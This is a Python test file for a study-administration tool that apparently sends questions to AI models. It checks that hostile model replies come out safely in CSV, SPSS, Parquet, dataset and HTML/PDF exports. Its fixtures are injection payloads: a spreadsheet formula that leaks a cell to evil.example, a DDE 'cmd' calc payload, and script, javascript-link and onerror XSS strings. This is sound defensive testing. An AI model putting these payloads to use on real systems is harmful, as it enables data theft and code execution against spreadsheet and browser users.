"""Hostile replies in the files eitest writes: no formula runs, no text is silently lost, no script in the report."""

from __future__ import annotations

import csv
import itertools
import json
import re
import threading
from pathlib import Path

import pandas as pd
import pytest
from openai_server import Action, ScriptedServer

from eitest.administer.runner import run_study
from eitest.administer.study import Study
from eitest.outputs.cells import spreadsheet_safe, valid_unicode
from eitest.outputs.export import build_tables, export, write_tables
from eitest.outputs.report import write_report
from eitest.outputs.spss import SAV_MAX_STRING_BYTES
from eitest.store import Store

MEGABYTE_REPLY = "A " + "x" * 1_000_000
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"A")',
    "+A",
    "-B is my answer",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tA",
    "\rB",
]
HOSTILE = [
    "<script>alert('reply')</script>",
    '<a href="javascript:alert(1)">A</a> [B](javascript:alert(2))',
    "<img src=x onerror=alert(3)>",
    "\x1b[31mA\x1b[0m\x1b]0;owned\x07",
    "A\x00 and after the NUL",
    "-0.5",
    MEGABYTE_REPLY,
    *FORMULAS,
]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A run whose server answers each trial with the next hostile reply in turn."""
    db = tmp_path_factory.mktemp("hostile") / "h.db"
    replies = itertools.cycle(HOSTILE)
    lock = threading.Lock()

    def script(body) -> Action:
        with lock:
            return Action(reply=next(replies))

    with ScriptedServer(script) as srv:
        out = run_study(
            Study(models=["openai/hostile-test"], instruments=["open-steu"], api_base=srv.url, concurrency=1), db
        )
    assert out.called == 45 and out.failed == 0
    return db


def _stored(db: Path) -> pd.DataFrame:
    with Store(db) as store:
        return store.trials()


def test_the_store_keeps_every_reply_as_it_came(hostile_db: Path):
    replies = set(_stored(hostile_db)["raw_reply"])
    assert set(HOSTILE) <= replies  # NUL, escapes and the 1 MB reply included


def test_csv_text_cells_that_would_run_as_formulas_get_a_quote(hostile_db: Path, tmp_path: Path):
    result = export(hostile_db, tmp_path, "csv")
    csv.field_size_limit(2_000_000)  # the 1 MB reply is one cell
    with open(tmp_path / "trials.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    cells = {r["raw_reply"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= cells
    assert not set(FORMULAS) & cells
    assert "-0.5" in cells  # a plain number is left as it is
    assert {r["cost"] for r in rows} == {""} or all(not r["cost"].startswith("'") for r in rows)
    starts = tuple("=+-@\t\r")
    risky = [c for r in rows for c in r.values() if c.startswith(starts) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert risky == []
    stored = _stored(hostile_db)
    expected = int(stored["raw_reply"].isin(FORMULAS).sum())
    assert expected == 18  # 45 trials, 13 replies in turn: each formula three times
    assert f"trials.csv: {expected} text cell(s) began with = + - @, a tab or a carriage return" in " ".join(
        result.notes
    )
    book = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert "are written with a leading ' so that spreadsheets show them as text" in book
    assert "the SQLite store and the Parquet, SPSS and Hugging Face exports keep the text as it came" in book


def test_spreadsheet_safe_touches_text_only():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("@A") == "'@A" and spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("\rx") == "'\rx"
    assert spreadsheet_safe("-1+2") == "'-1+2"
    assert spreadsheet_safe("-0.5") == "-0.5" and spreadsheet_safe("+3e-2") == "+3e-2"
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("A = B") == "A = B"


def test_sav_writes_nul_as_replacement_and_cuts_long_text_with_notes(hostile_db: Path, tmp_path: Path):
    import pyreadstat

    result = export(hostile_db, tmp_path, "sav")
    back, _meta = pyreadstat.read_sav(str(tmp_path / "trials.sav"))
    replies = set(back["raw_reply"])
    assert "A\ufffd and after the NUL" in replies and "A\x00 and after the NUL" not in replies
    longest = max(back["raw_reply"], key=len)
    assert len(longest.encode("utf-8")) == SAV_MAX_STRING_BYTES and longest.startswith("A xxx")
    notes = " ".join(result.notes)
    assert "trials.sav: 4 cell(s) held NUL characters, written as U+FFFD" in notes
    assert "(raw_reply: 4)" in notes
    assert "trials.sav: 3 value(s) of raw_reply were longer than SPSS's 32,767 bytes" in notes
    assert "\x1b[31mA" in "".join(replies)  # other control characters are kept


@pytest.mark.parametrize("fmt", ["parquet", "hf"])
def test_parquet_and_dataset_keep_the_text_as_it_came(hostile_db: Path, tmp_path: Path, fmt: str):
    export(hostile_db, tmp_path, fmt)
    if fmt == "parquet":
        back = pd.read_parquet(tmp_path / "trials.parquet")["raw_reply"]
    else:
        import datasets

        back = pd.Series(datasets.load_from_disk(str(tmp_path))["trials"]["raw_reply"])
    assert set(HOSTILE) <= set(back)


@pytest.mark.parametrize("fmt", ["csv", "parquet", "sav", "hf"])
def test_lone_surrogates_are_written_as_replacement_in_every_format(
    hostile_db: Path, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
):
    """A reply read with a lone surrogate in it (pandas 2 reads text as Python objects, which can hold one)."""
    read = Store.trials

    def with_surrogates(self, run_id=None):
        df = read(self, run_id)
        df["raw_reply"] = df["raw_reply"].astype(object)  # as pandas 2 reads text; Arrow strings refuse surrogates
        df.loc[0, "raw_reply"] = "broken \ud800 unicode"
        df.loc[1, "raw_reply"] = "a pair \ud83d\ude00 joined"
        return df

    monkeypatch.setattr(Store, "trials", with_surrogates)
    tables = build_tables(hostile_db)
    result = write_tables(tables, tmp_path, fmt, hostile_db)
    assert "trials: 2 cell(s) held invalid unicode (lone surrogates), written as U+FFFD (raw_reply: 2)" in " ".join(
        result.notes
    )
    if fmt == "csv":
        back = pd.read_csv(tmp_path / "trials.csv", keep_default_na=False)["raw_reply"]
    elif fmt == "parquet":
        back = pd.read_parquet(tmp_path / "trials.parquet")["raw_reply"]
    elif fmt == "sav":
        import pyreadstat

        back = pyreadstat.read_sav(str(tmp_path / "trials.sav"))[0]["raw_reply"]
    else:
        import datasets

        back = pd.Series(datasets.load_from_disk(str(tmp_path))["trials"]["raw_reply"])
    assert back.iloc[0] == "broken \ufffd unicode" and back.iloc[1] == "a pair \U0001f600 joined"
    assert json.loads((tmp_path / "codebook.json").read_text(encoding="utf-8"))["tables"]["trials"]["rows"] == 45


def test_valid_unicode():
    assert valid_unicode("ok") == "ok"
    assert valid_unicode("\udfff\ud800") == "\ufffd\ufffd"


def test_report_of_hostile_replies_has_no_executable_content(hostile_db: Path, tmp_path: Path):
    files = write_report(hostile_db, tmp_path / "r.html", tmp_path / "r.pdf")
    html = files.html.read_text(encoding="utf-8")
    lowered = html.lower()
    assert "<script" not in lowered
    images = re.findall(r"<img\b[^>]*>", lowered)
    assert images and all(
        re.fullmatch(r'<img alt="[^"<>]*" src="data:image/svg\+xml;base64,[a-z0-9+/=]+">', i) for i in images
    )
    assert not re.search(r"<a\s[^>]*href\s*=\s*[\"']?\s*javascript:", lowered)
    assert not re.search(r"<[^>]+\son\w+\s*=", lowered)  # no event handler attribute on any tag
    assert "&lt;script&gt;alert(&#39;reply&#39;)&lt;/script&gt;" in html  # shown as text
    assert "\x1b" not in html and "\x00" not in html and "\x07" not in html
    assert "\\x1b[31mA" in html  # control characters are shown, visibly
    assert len(html) < 1_000_000  # the 1 MB reply is shortened for the page
    assert files.pdf.read_bytes().startswith(b"%PDF") and files.pdf.stat().st_size > 10_000
